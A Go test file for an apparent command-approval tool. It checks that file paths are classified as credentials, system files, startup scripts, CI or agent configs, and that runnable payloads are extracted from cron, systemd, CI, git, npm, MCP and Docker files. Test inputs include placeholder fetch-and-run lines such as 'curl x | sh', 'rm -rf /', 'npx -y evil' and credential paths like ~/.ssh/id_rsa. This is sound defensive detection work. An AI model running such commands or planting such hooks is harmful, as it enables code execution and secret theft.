package content_test

import (
	"slices"
	"strings"
	"testing"

	"approver.example/reflexcore/content"
	"approver.example/reflexcore/effect"
)

func TestClassify(t *testing.T) {
	const x = effect.Unknown
	for _, c := range []struct {
		path   string
		kind   content.Kind
		secret bool
	}{
		// Secrets, and their other spellings.
		{"~/.ssh/id_rsa", content.Credential, true},
		{"/home/ada/.ssh/id_ed25519", content.Credential, true},
		{"$HOME/.ssh/id_rsa", content.Credential, true},
		{"${HOME}/.ssh/id_rsa", content.Credential, true},
		{"~bob/.ssh/id_rsa", content.Credential, true},
		{"/home/ada/project/../.ssh//./id_rsa/", content.Credential, true},
		{"/Users/Ada/.SSH/ID_RSA", content.Credential, true},
		{"../../.ssh/work_key", content.Credential, true},
		{"/etc/shadow", content.System, true},
		{"/private/etc/master.passwd", content.System, true},
		{"/proc/1/root/etc/shadow", content.System, true},
		{"/mnt/host/etc/shadow", content.System, true},
		{"~/../etc/shadow", content.System, true},
		{"../../../../../etc/shadow", content.System, true},
		{"~/../etc/pam.d/sshd", content.System, false},
		{"../../../../etc/pam.d/sshd", content.System, false},
		{"../etc/pam.d/sshd", content.Plain, false},
		{"/proc/self/environ", content.System, true},
		{".env", content.Credential, true},
		{"app/.env.production", content.Credential, true},
		{"/w/terraform.tfstate.backup", content.Credential, true},
		{"certs/server.key", content.Credential, true},
		{"certs/company.pfx", content.Credential, true},
		{"C:\\Users\\ada\\.aws\\credentials", content.Credential, true},
		{"/mnt/c/Users/ada/.aws/credentials", content.Credential, true},
		{"~/Library/Application Support/Google/Chrome/Default/Login Data", content.Credential, true},
		{"/root/.config/some-cli/access_token.json", content.Credential, true}, // by its words
		{"/home/ada/.newtool/auth.json", content.Credential, true},
		{"~/.bash_history", content.Credential, true},
		{"/var/run/docker.sock", content.System, true},
		{".npmrc", content.Registry, true},
		// May match.
		{"~/.ssh/*", content.Credential, true},
		{"/etc/sh?dow", content.System, true},
		{"/etc/sh[a]dow", content.System, true},
		{"/e*/s*", content.System, true},
		{"~/.ss*/id*", content.Credential, true},
		{"/home/*/.ssh/id_rsa", content.Credential, true},
		{"/home/*/.aws/cred*", content.Credential, true},
		{"**/id_ed25519", content.Credential, true},
		{"**/.env*", content.Credential, true},
		{"{src,.ssh}/id_*", content.Credential, true},
		{"/etc/@(shadow|x)", content.Credential, true},
		{"~/.*", content.Own, true},
		{"/etc/*", content.Credential, true},
		{"src/*", content.Plain, false},
		{"*", content.Plain, false},
		{"src/**/*.ts", content.Script, false},
		{"*.json", content.Plain, false},
		{"*.md", content.Plain, false},
		{"**/*.{yml,yaml}", content.Plain, false},
		{"/tmp/build/*.o", content.Plain, false},
		// Unknown parts.
		{x, content.Unclear, false},
		{"/tmp/" + x, content.Unclear, false},
		{x + "/.ssh/id_rsa", content.Credential, true},
		{"/home/" + x + "/.ssh/" + x, content.Credential, true},
		{"/et" + x + "debian.cnf", content.Credential, true},
		{"/etc/" + x + "dow", content.Credential, true},
		{"src/" + x + ".go", content.Unclear, false},
		{"", content.Unclear, false},
		{strings.Repeat("a/", 70), content.Unclear, false},
		// What runs or decides.
		{"~/.bashrc", content.Startup, false},
		{"/etc/profile.d/x.sh", content.Startup, false},
		{"~/.config/fish/conf.d/x.fish", content.Startup, false},
		{"/etc/cron.d/backup", content.Cron, false},
		{"/var/spool/cron/crontabs/ada", content.Cron, false},
		{"/etc/systemd/system/x.service", content.Service, false},
		{"~/Library/LaunchAgents/x.plist", content.Service, false},
		{".github/workflows/ci.yml", content.CI, false},
		{"repo/.gitlab-ci.yml", content.CI, false},
		{"Jenkinsfile", content.CI, false},
		{".git/hooks/pre-commit", content.Hook, false},
		{".git/config", content.Hook, false},
		{".husky/pre-push", content.Hook, false},
		{"package.json", content.Build, false},
		{"Makefile", content.Build, false},
		{"lib/sitecustomize.py", content.Startup, false},
		{"venv/lib/python3/site-packages/x.pth", content.Startup, false},
		{".envrc", content.Startup, false},
		{"~/.ssh/authorized_keys", content.Keys, false},
		{"~/.ssh/config", content.Keys, false},
		{"/etc/sudoers.d/x", content.System, true},
		{"/etc/passwd", content.System, false},
		{"/etc/hosts", content.System, false},
		{"/etc/ld.so.preload", content.System, false},
		{"/etc/pam.d/sshd", content.System, false},
		{"/dev/sda1", content.System, false},
		{".vscode/tasks.json", content.Startup, false},
		{".claude/settings.local.json", content.Agent, false},
		{"~/.codex/config.toml", content.Agent, false},
		{".cursor/mcp.json", content.Agent, false},
		{".cline/plugins/x.js", content.Agent, false},
		{".cline/cron/x.md", content.Agent, false},
		{".github/extensions/a/extension.mjs", content.Agent, false},
		{".codex/rules/x.rules", content.Agent, false},
		{".factory/hooks/x.sh", content.Agent, false},
		{".cursor/worktrees.json", content.Startup, false},
		{".opencode/tui.json", content.Agent, false},
		{".gemini/agents/x.md", content.Instructions, false},
		{".github/lsp.json", content.Instructions, false},
		{"CLAUDE.md", content.Instructions, false},
		{"/etc/approver/approver.yaml", content.Own, true},
		{"~/.approver/run/resolve.sock", content.Own, true},
		{"~/.config/autostart/x.desktop", content.Startup, false},
		{"/etc/udev/rules.d/9.rules", content.Hook, false},
		{"/usr/local/bin/git", content.Program, false},
		{"~/.local/bin/ssh", content.Program, false},
		// Honest.
		{".env.example", content.Plain, false},
		{".env.sample", content.Plain, false},
		{"~/.ssh/id_rsa.pub", content.Plain, false},
		{"docs/ssh-key-rotation.md", content.Plain, false},
		{"internal/testdata/server.pem", content.Plain, false},
		{"/etc/ssl/certs/x.pem", content.Plain, false},
		{"src/token.go", content.Plain, false},
		{"src/secrets.py", content.Script, false},
		{"README.md", content.Plain, false},
		{"src/main.go", content.Plain, false},
		{"/home/ada/project/etc/config.yaml", content.Plain, false},
		{"/home/ada/.cargo/registry/src/x/token.rs", content.Program, false},
		{"/tmp/out.txt", content.Plain, false},
		{"/dev/null", content.Plain, false},
		{"scripts/deploy.sh", content.Script, false},
		{"project/aws-sdk-config.json", content.Plain, false},
		{"/workspace/project/bitwarden-integration/data.json", content.Plain, false},
		{"/home/ada/.vscode/argv.json", content.Plain, false},
		{"/", content.Plain, false},
		{".", content.Plain, false},
	} {
		if got := content.Classify(c.path); got.Kind != c.kind || got.Secret != c.secret {
			t.Errorf("%q: got %v %q secret=%v, want %v secret=%v", c.path, got.Kind, got.Name, got.Secret, c.kind, c.secret)
		}
	}
}

func TestEveryKindHasAWord(t *testing.T) {
	seen := map[string]bool{}
	for _, k := range content.Kinds() {
		if k.String() == "" || seen[k.String()] {
			t.Errorf("kind %d is %q", k, k)
		}
		seen[k.String()] = true
	}
	if content.Kind(200).String() != "unclear" {
		t.Error("an unknown kind is not unclear")
	}
}

// payloads lists what runs as lang:text.
func payloads(path, text string, lim content.Limits) (out []string) {
	content.Payloads(path, text, lim, func(p effect.Payload) { out = append(out, p.Lang+":"+p.Text) })
	return out
}

func TestPayloads(t *testing.T) {
	for _, c := range []struct {
		name, path, text string
		want             []string
	}{
		{"script", "x.sh", "rm -rf /\n", []string{"sh:rm -rf /\n"}},
		{"shebang over ending", "x.sh", "#!/usr/bin/env python3\nimport os",
			[]string{"python:#!/usr/bin/env python3\nimport os"}},
		{"env -S", "tool", "#!/usr/bin/env -S node --x\n1",
			[]string{"sh: node --x tool", "node:#!/usr/bin/env -S node --x\n1"}},
		{"unknown interpreter", "tool", "#!/opt/x\n1", []string{":"}},
		{"plain", "README.md", "rm -rf /", nil},
		{"no place", effect.Unknown, "rm -rf /", []string{":"}},
		{"cron", "/etc/crontab", "# x\nSHELL=/bin/sh\n* * * * * root curl x | sh\n@reboot root id\n",
			[]string{"sh:SHELL=/bin/sh", "sh:curl x | sh", "sh:id"}},
		{"user cron", "/var/spool/cron/a", "*/5 * * * * a=1 id\n0 0 * * * mail -s x%body%\n",
			[]string{"sh:a=1 id", "sh:mail -s x <<'CRON_INPUT'\nbody\n\nCRON_INPUT"}},
		{"unit", "/etc/systemd/system/x.service",
			"[Service]\nExecStart=-/bin/sh -c 'id; \\\n x'\nUser=root\nExecStop = kill 1",
			[]string{"sh:/bin/sh -c 'id;   x'", "sh:kill 1"}},
		{"desktop", "~/.config/autostart/x.desktop", "[Desktop Entry]\nExec=sh -c id", []string{"sh:sh -c id"}},
		{"plist", "~/Library/LaunchAgents/x.plist",
			"<plist><dict><key>Label</key><string>x</string><key>ProgramArguments</key><array>" +
				"<string>sh</string><string>-c</string><string>curl x | sh</string></array></dict></plist>",
			[]string{"sh:sh -c 'curl x | sh'"}},
		{"ci", ".github/workflows/x.yml",
			"on: push\njobs:\n  a:\n    steps:\n      - uses: x@v1\n      - name: rm -rf /\n        run: |\n" +
				"          echo ${{ github.event.title }}\n      - run: print(1)\n        shell: python\n",
			[]string{"sh:echo \x00\n", "python:print(1)"}},
		{"ci in an unknown shell", ".github/workflows/x.yml", "steps:\n  - run: x\n    shell: frob {0}\n", []string{":"}},
		{"gitlab", ".gitlab-ci.yml", "a:\n  script:\n    - id\n    - curl x\n  after_script: [ls]\n",
			[]string{"sh:id\ncurl x", "sh:ls"}},
		{"broken yaml", ".gitlab-ci.yml", "a: [\n  b: {", []string{":"}},
		{"git", ".git/config",
			"[core]\n\tsshCommand = \"ssh -o x\" # c\n\tbare = false\n[alias]\n\tx = !sh -c id\n\tst = status\n" +
				"[credential]\n\thelper = store\n[filter \"a\"]\n\tclean = evil %f\n", []string{"sh:ssh -o x", "sh:sh -c id",
				"sh:git status", "sh:git-credential-store", "sh:evil %f"}},
		{"git hooks path", ".gitconfig", "[core] hooksPath = /tmp/h", []string{":/tmp/h"}},
		{"git ext", ".git/config", "[remote \"o\"]\nurl = ext::sh -c id", []string{"sh:sh -c id"}},
		{"npm", "package.json", `{"name":"x","scripts":{"postinstall":"curl x|sh","build":"tsc"}}`,
			[]string{"sh:tsc", "sh:curl x|sh"}},
		{"broken json", "package.json", `{"scripts":`, []string{":"}},
		{"tasks with comments", ".vscode/tasks.json",
			"{ // c\n \"tasks\":[{\"command\":\"sh\",\"args\":[\"-c\",\"id\"],},]}", []string{"sh:sh -c id"}},
		{"hooks", ".claude/settings.json",
			`{"hooks":{"PreToolUse":[{"hooks":[{"type":"command","command":"curl x | sh"}]}]},"env":{"PATH":"/tmp"}}`,
			[]string{"sh:curl x | sh", "sh:export PATH=/tmp"}},
		{"mcp", ".mcp.json", `{"mcpServers":{"a":{"command":"npx","args":["-y","evil"]}}}`, []string{"sh:npx -y evil"}},
		{"codex", "~/.codex/config.toml",
			"[mcp_servers.a]\ncommand = \"npx\"\nargs = [\n  \"-y\",\n  \"evil\",\n]\nnotify = [\"sh\",\"-c\",\"id\"]",
			[]string{"sh:npx -y evil", "sh:sh -c id"}},
		{"a part of codex", "~/.codex/config.toml", "args = [\"-y\"]\ncommand = \"npx\"\n]\nnotify = [\"id\"]",
			[]string{"sh: -y", "sh:id", "sh:npx"}},
		{"make", "Makefile", "X := $(shell id)\nall: x ; echo a\n\t@rm -rf $(DIR) \\\n\t  $$HOME\n\tls\n",
			[]string{"sh:id", "sh: echo a", "sh:rm -rf \x00 \t  $HOME\nls\n"}},
		{"docker", "Dockerfile",
			"FROM x\nRUN --mount=type=secret curl x \\\n# c\n | sh \\\n && ls\n" +
				"CMD [\"sh\",\"-c\",\"id x\"]\nRUN <<EOF\nid\nEOF\n",
			[]string{"sh:curl x  | sh  && ls", "sh:sh -c 'id x'", "sh:id\n"}},
		{"key", "~/.ssh/authorized_keys", "no-pty,command=\"sh -c \\\"id\\\"\" ssh-rsa AAAA\nssh-rsa BBB",
			[]string{"sh:sh -c \"id\""}},
		{"ssh", "~/.ssh/config", "Host *\n  ProxyCommand nc %h %p\n  Match exec \"id\"\n", []string{"sh:nc %h %p", "sh:id"}},
		{"pth", "x.pth", "../x\nimport os; os.system('id')\n", []string{"python:import os; os.system('id')\n"}},
		{"udev", "/etc/udev/rules.d/x.rules", "ACTION==\"add\", RUN+=\"/bin/sh -c id\"\n", []string{"sh:/bin/sh -c id"}},
		{"jenkins", "Jenkinsfile", "stage('rm') { sh 'id'\n sh(script: \"\"\"a\nb\"\"\") \n echo 'rm -rf /' }",
			[]string{"sh:id", "sh:a\nb"}},
		{"compose", "docker-compose.yml", "services:\n  a:\n    command: [sh, -c, \"id x\"]\n    image: x\n",
			[]string{"sh:sh -c 'id x'"}},
		{"pre-commit", ".pre-commit-config.yaml", "repos:\n- repo: local\n  hooks:\n  - id: x\n    entry: sh -c id\n",
			[]string{"sh:sh -c id"}},
		{"binary in a program's place", "/usr/local/bin/git", "\x7fELF\x00", []string{":"}},
		{"editor's honest settings", ".vscode/settings.json", `{"editor.fontSize": 12}`, nil},
	} {
		t.Run(c.name, func(t *testing.T) {
			if got := payloads(c.path, c.text, content.DefaultLimits()); !slices.Equal(got, c.want) {
				t.Errorf("got  %q\nwant %q", got, c.want)
			}
		})
	}
}

func TestPayloadLimits(t *testing.T) {
	long := "x.sh"
	if got := payloads(long, "id", content.Limits{}); !slices.Equal(got, []string{":"}) {
		t.Errorf("no budget: %q", got)
	}
	lim := content.DefaultLimits()
	lim.Bytes = 2
	if got := payloads(long, "id; evil", lim); !slices.Equal(got, []string{":", "sh:id"}) {
		t.Errorf("too long: %q", got)
	}
	lim = content.DefaultLimits()
	lim.Payloads = 1
	if got := payloads(".gitconfig", "[alias]\na=!x\nb=!y\nc=!z", lim); !slices.Equal(got, []string{"sh:x", ":"}) {
		t.Errorf("too many: %q", got)
	}
	lim = content.DefaultLimits()
	if got := payloads("package.json", strings.Repeat("[", 100)+strings.Repeat("]", 100), lim); !slices.Equal(got,
		[]string{":"}) {
		t.Errorf("too deep: %q", got)
	}
	if got := payloads(".gitlab-ci.yml", strings.Repeat("- ", 1000)+"a", lim); !slices.Equal(got, []string{":"}) {
		t.Errorf("too deep: %q", got)
	}
}

func FuzzPayloads(f *testing.F) {
	for _, s := range [][2]string{{".gitlab-ci.yml", "a: &x\n  script: [*x]\n"}, {"package.json", `{"scripts":{"a":1}}`},
		{"~/.ssh/*", "x"}, {"Jenkinsfile", "sh '''"}, {".git/config", "[a.b] c = \"\\"}, {"/etc/{a,{b,c}}/@(x", ""},
		{"x.pth", "import"}, {"a.plist", "<array>"}, {"Library/LaunchAgents/x", "<array><string>"},
		{"Dockerfile", "RUN [\"\\\n<<"}, {"Makefile", "$(shell ((\n\t$"}, {"\x00/.ssh", "\x00"}} {
		f.Add(s[0], s[1])
	}
	f.Fuzz(func(t *testing.T, path, text string) {
		s := content.Classify(path)
		if !effect.IsKnown(path) && s.Kind == content.Plain {
			t.Errorf("%q is plain", path)
		}
		if up := content.Classify(strings.ToUpper(path)); isASCII(path) && !strings.Contains(path, "[") &&
			(up.Kind != s.Kind || up.Secret != s.Secret) && !strings.ContainsAny(path, "$%") {
			t.Errorf("%q: %v, in capitals %v", path, s, up)
		}
		lim := content.DefaultLimits()
		n := 0
		content.Payloads(path, text, lim, func(p effect.Payload) {
			n++
			if p.Path != path {
				t.Errorf("a payload of another file: %q", p.Path)
			}
		})
		if n > 3*lim.Payloads {
			t.Errorf("%d payloads", n)
		}
	})
}

func isASCII(s string) bool { return strings.IndexFunc(s, func(r rune) bool { return r > 127 }) < 0 }

func BenchmarkClassify(b *testing.B) {
	for _, path := range []string{"/home/ada/project/src/components/Button.tsx", "~/.ssh/id_rsa",
		"/etc/systemd/system/x.service", "src/main.go", "/home/*/.ssh/id_*"} {
		b.Run(path, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				content.Classify(path)
			}
		})
	}
}

func BenchmarkPayloads(b *testing.B) {
	text := "jobs:\n  a:\n    steps:\n" + strings.Repeat("      - run: make test\n", 20)
	b.ReportAllocs()
	for b.Loop() {
		content.Payloads(".github/workflows/ci.yml", text, content.DefaultLimits(), func(effect.Payload) {})
	}
}
